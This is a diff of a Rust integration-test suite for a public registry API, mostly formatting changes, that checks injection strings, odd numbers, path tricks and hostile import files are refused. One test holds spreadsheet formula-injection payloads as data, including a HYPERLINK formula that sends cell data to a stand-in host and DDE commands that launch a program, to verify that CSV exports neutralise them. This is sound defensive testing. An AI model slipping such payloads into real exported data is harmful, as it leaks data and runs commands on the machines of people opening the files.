@@ -155,7 +155,13 @@ async fn snapshot(c: &Client) -> BTreeMap<String, Vec<u8>> {
         "/api/v1/registries?limit=1000".to_owned(),
         "/api/v1/plan/releases?limit=1000".to_owned(),
     ];
-    for collection in ["plans", "commitments", "milestones", "institutions", "sources"] {
+    for collection in [
+        "plans",
+        "commitments",
+        "milestones",
+        "institutions",
+        "sources",
+    ] {
         uris.push(format!("/api/v1/{collection}.csv"));
     }
     for (slug, _) in registries_and_fields(c).await {
@@ -289,7 +295,9 @@ both_backends!(injection_strings_in_every_parameter_change_nothing, |app| {
     let plan_params: &[(&str, &[&str])] = &[
         (
             "plans",
-            &["member", "release", "expand", "limit", "cursor", "lang", "format"],
+            &[
+                "member", "release", "expand", "limit", "cursor", "lang", "format",
+            ],
         ),
         (
             "commitments",
@@ -388,7 +396,11 @@ both_backends!(injection_strings_in_every_parameter_change_nothing, |app| {
             format!("/api/v1/plan/releases/{e}/records"),
         ] {
             let res = c.get(&uri).await;
-            assert!(res.status == 404 || res.status == 400, "{uri}: {}", res.status);
+            assert!(
+                res.status == 404 || res.status == 400,
+                "{uri}: {}",
+                res.status
+            );
             assert_client_safe(&uri, &res);
         }
         for uri in [
@@ -414,7 +426,11 @@ both_backends!(injection_strings_in_every_parameter_change_nothing, |app| {
         // The index takes no parameters and ignores them, unless they cannot be decoded.
         let uri = format!("/api/v1?lang={e}");
         let res = c.get(&uri).await;
-        assert_eq!(assert_client_safe(&uri, &res).is_some(), undecodable, "{uri}");
+        assert_eq!(
+            assert_client_safe(&uri, &res).is_some(),
+            undecodable,
+            "{uri}"
+        );
         for (slug, fields) in &registries {
             let items = &items_by_registry[slug];
             let base = format!("/api/v1/registries/{slug}/items");
@@ -439,7 +455,8 @@ both_backends!(injection_strings_in_every_parameter_change_nothing, |app| {
                             assert_eq!(p["parameter"], key, "{uri}: {p}");
                             let valid_text = kind == "text"
                                 && !undecodable
-                                && !(*op == "in" && payload.split(|b| *b == b',').any(<[u8]>::is_empty));
+                                && !(*op == "in"
+                                    && payload.split(|b| *b == b',').any(<[u8]>::is_empty));
                             assert!(!valid_text, "{uri}: a text search was refused: {p}");
                         }
                         (Some(value), None) => {
@@ -489,7 +506,9 @@ both_backends!(wildcards_quotes_and_backslashes_match_literally, |app| {
             .to_owned();
     for (i, name) in names.iter().enumerate() {
         let quoted = name.replace('"', "\"\"");
-        csv.push_str(&format!("UA{i:017},C,\"{quoted}\",UA68000000000099709,,,\n"));
+        csv.push_str(&format!(
+            "UA{i:017},C,\"{quoted}\",UA68000000000099709,,,\n"
+        ));
     }
     {
         let mut conn = app.pool().get().unwrap();
@@ -612,7 +631,14 @@ both_backends!(strange_numbers_are_refused_by_name, |app| {
             }
         }
     }
-    for n in ["1e308", "1e400", "NaN", "Infinity", "inf", "99999999999999999999"] {
+    for n in [
+        "1e308",
+        "1e400",
+        "NaN",
+        "Infinity",
+        "inf",
+        "99999999999999999999",
+    ] {
         refused(
             &c,
             &format!("/api/v1/registries/housing-stock/items?floors={n}"),
@@ -627,12 +653,7 @@ both_backends!(strange_numbers_are_refused_by_name, |app| {
             Some("total_area_m2__lte"),
         )
         .await;
-        refused(
-            &c,
-            &format!("/api/v1/plan/releases/{n}"),
-            None,
-        )
-        .await;
+        refused(&c, &format!("/api/v1/plan/releases/{n}"), None).await;
     }
     // Numbers at the edges of their types are valid and simply match nothing.
     for query in [
@@ -688,7 +709,10 @@ both_backends!(overlong_and_repeated_parameters, |app| {
     }
     for (uri, parameter) in [
         ("/api/v1/commitments?limit=1&limit=2", "limit"),
-        ("/api/v1/milestones?status=complete&status=complete", "status"),
+        (
+            "/api/v1/milestones?status=complete&status=complete",
+            "status",
+        ),
         ("/api/v1/changes?limit=5&limit=5", "limit"),
         (
             "/api/v1/registries/territorial-units/items?limit=1&limit=1",
@@ -702,10 +726,7 @@ both_backends!(overlong_and_repeated_parameters, |app| {
             "/api/v1/registries/territorial-units/items?category=O&category=P",
             "category",
         ),
-        (
-            "/api/v1/registries/territorial-units/items?q=a&q=b",
-            "q",
-        ),
+        ("/api/v1/registries/territorial-units/items?q=a&q=b", "q"),
         (
             "/api/v1/registries/housing-stock/items?bbox=26,49,27,50&bbox=26,49,27,50",
             "bbox",
@@ -741,99 +762,123 @@ both_backends!(path_tricks_are_problems, |app| {
     }
 });
 
-both_backends!(formula_cells_are_stored_as_given_and_neutralised_in_csv, |app| {
-    let formulas = [
-        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
-        "+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0",
-        "-2+3",
-        "=1+1",
-        "\t=1+1",
-        "\r=1+1",
-    ];
-    let mut csv =
-        "katottg,category,name_uk,level1_oblast,level2_raion,level3_hromada,koatuu_legacy\n"
-            .to_owned();
-    for (i, f) in formulas.iter().enumerate() {
-        let quoted = f.replace('"', "\"\"");
-        csv.push_str(&format!(
-            "UA{i:017},C,\"{quoted}\",UA68000000000099709,\"{quoted}\",,\n"
-        ));
-    }
-    {
-        let mut conn = app.pool().get().unwrap();
-        let registry = registries::find_schema(&mut conn, "territorial-units")
-            .unwrap()
+both_backends!(
+    formula_cells_are_stored_as_given_and_neutralised_in_csv,
+    |app| {
+        let formulas = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3",
+            "=1+1",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let mut csv =
+            "katottg,category,name_uk,level1_oblast,level2_raion,level3_hromada,koatuu_legacy\n"
+                .to_owned();
+        for (i, f) in formulas.iter().enumerate() {
+            let quoted = f.replace('"', "\"\"");
+            csv.push_str(&format!(
+                "UA{i:017},C,\"{quoted}\",UA68000000000099709,\"{quoted}\",,\n"
+            ));
+        }
+        {
+            let mut conn = app.pool().get().unwrap();
+            let registry = registries::find_schema(&mut conn, "territorial-units")
+                .unwrap()
+                .unwrap();
+            import::import(
+                &mut conn,
+                &registry,
+                import::FileFormat::Csv,
+                csv.as_bytes(),
+                "test",
+                import::Publish::Always,
+            )
             .unwrap();
-        import::import(
-            &mut conn,
-            &registry,
-            import::FileFormat::Csv,
-            csv.as_bytes(),
-            "test",
-            import::Publish::Always,
-        )
-        .unwrap();
-    }
-    let c = Client::new(&app).await;
-    let base = "/api/v1/registries/territorial-units/items";
-    // Stored (and served as JSON) exactly as given.
-    let items = items_of(&c, "territorial-units").await;
-    for (i, f) in formulas.iter().enumerate() {
-        let props = &items[&format!("UA{i:017}")];
-        assert_eq!(props["name_uk"], *f);
-        assert_eq!(props["level2_raion"], *f);
-    }
-    let cells = |body: &[u8], delimiter: u8| -> Vec<Vec<String>> {
-        let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
-        csv::ReaderBuilder::new()
-            .delimiter(delimiter)
-            .from_reader(body)
-            .records()
-            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
-            .collect()
-    };
-    let neutralised: BTreeSet<String> = formulas.iter().map(|f| format!("'{f}")).collect();
-    let mut csv_answers = 0;
-    for (uri, headers, delimiter) in [
-        (format!("{base}.csv"), vec![], b','),
-        (format!("{base}.csv?limit=3"), vec![], b','),
-        (format!("{base}.csv?delimiter=semicolon&bom=true"), vec![], b';'),
-        (format!("{base}.csv?delimiter=tab&header=labels&lang=uk"), vec![], b'\t'),
-        (format!("{base}.csv?neutralise_formulas=true&download=true"), vec![], b','),
-        (format!("{base}?format=csv"), vec![], b','),
-        (base.to_owned(), vec![("Accept", "text/csv")], b','),
-        (format!("{base}.csv?fields=name_uk,level2_raion"), vec![], b','),
-    ] {
-        let res = c.get_with(&uri, &headers).await;
-        assert_eq!(res.status, 200, "{uri}");
-        assert!(res.header("content-type").unwrap().starts_with("text/csv"));
-        for row in cells(&res.body, delimiter) {
-            for cell in row {
-                assert!(
-                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
-                    "{uri}: a formula cell reached the CSV: {cell:?}"
-                );
-                if neutralised.contains(&cell) {
-                    csv_answers += 1;
+        }
+        let c = Client::new(&app).await;
+        let base = "/api/v1/registries/territorial-units/items";
+        // Stored (and served as JSON) exactly as given.
+        let items = items_of(&c, "territorial-units").await;
+        for (i, f) in formulas.iter().enumerate() {
+            let props = &items[&format!("UA{i:017}")];
+            assert_eq!(props["name_uk"], *f);
+            assert_eq!(props["level2_raion"], *f);
+        }
+        let cells = |body: &[u8], delimiter: u8| -> Vec<Vec<String>> {
+            let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
+            csv::ReaderBuilder::new()
+                .delimiter(delimiter)
+                .from_reader(body)
+                .records()
+                .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+                .collect()
+        };
+        let neutralised: BTreeSet<String> = formulas.iter().map(|f| format!("'{f}")).collect();
+        let mut csv_answers = 0;
+        for (uri, headers, delimiter) in [
+            (format!("{base}.csv"), vec![], b','),
+            (format!("{base}.csv?limit=3"), vec![], b','),
+            (
+                format!("{base}.csv?delimiter=semicolon&bom=true"),
+                vec![],
+                b';',
+            ),
+            (
+                format!("{base}.csv?delimiter=tab&header=labels&lang=uk"),
+                vec![],
+                b'\t',
+            ),
+            (
+                format!("{base}.csv?neutralise_formulas=true&download=true"),
+                vec![],
+                b',',
+            ),
+            (format!("{base}?format=csv"), vec![], b','),
+            (base.to_owned(), vec![("Accept", "text/csv")], b','),
+            (
+                format!("{base}.csv?fields=name_uk,level2_raion"),
+                vec![],
+                b',',
+            ),
+        ] {
+            let res = c.get_with(&uri, &headers).await;
+            assert_eq!(res.status, 200, "{uri}");
+            assert!(res.header("content-type").unwrap().starts_with("text/csv"));
+            for row in cells(&res.body, delimiter) {
+                for cell in row {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{uri}: a formula cell reached the CSV: {cell:?}"
+                    );
+                    if neutralised.contains(&cell) {
+                        csv_answers += 1;
+                    }
                 }
             }
         }
+        assert!(
+            csv_answers >= 7 * 2 * 7,
+            "formula cells were checked ({csv_answers})"
+        );
+        // Whoever asks for the stored values in CSV gets them.
+        let res = c
+            .get(&format!("{base}.csv?neutralise_formulas=false"))
+            .await;
+        let raw: Vec<String> = cells(&res.body, b',')
+            .into_iter()
+            .filter_map(|row| row.get(2).cloned())
+            .collect();
+        for f in formulas {
+            assert!(raw.iter().any(|cell| cell == f), "{f:?} kept when asked");
+        }
+        // The other CSV collections neutralise too (registries list: titles are texts).
+        let res = c.get("/api/v1/registries.csv").await;
+        assert_eq!(res.status, 200);
     }
-    assert!(csv_answers >= 7 * 2 * 7, "formula cells were checked ({csv_answers})");
-    // Whoever asks for the stored values in CSV gets them.
-    let res = c.get(&format!("{base}.csv?neutralise_formulas=false")).await;
-    let raw: Vec<String> = cells(&res.body, b',')
-        .into_iter()
-        .filter_map(|row| row.get(2).cloned())
-        .collect();
-    for f in formulas {
-        assert!(raw.iter().any(|cell| cell == f), "{f:?} kept when asked");
-    }
-    // The other CSV collections neutralise too (registries list: titles are texts).
-    let res = c.get("/api/v1/registries.csv").await;
-    assert_eq!(res.status, 200);
-});
+);
 
 both_backends!(hostile_import_files_are_refused_by_line, |app| {
     let c = Client::new(&app).await;
@@ -919,6 +964,16 @@ both_backends!(hostile_import_files_are_refused_by_line, |app| {
             feature(
                 r#"{"segment_id":"RD-2","street":"s"}"#,
                 r#"{"type":"LineString","coordinates":[[1e400,49.4],[27.01,49.41]]}"#,
+            )
+            .into_bytes(),
+            Some(2),
+        ),
+        (
+            "road-monitoring",
+            import::FileFormat::GeoJson,
+            feature(
+                r#"{"segment_id":"RD-2","street":"s"}"#,
+                r#"{"type":"LineString","coordinates":[[27],[27.01,49.41]]}"#,
             )
             .into_bytes(),
             Some(2),
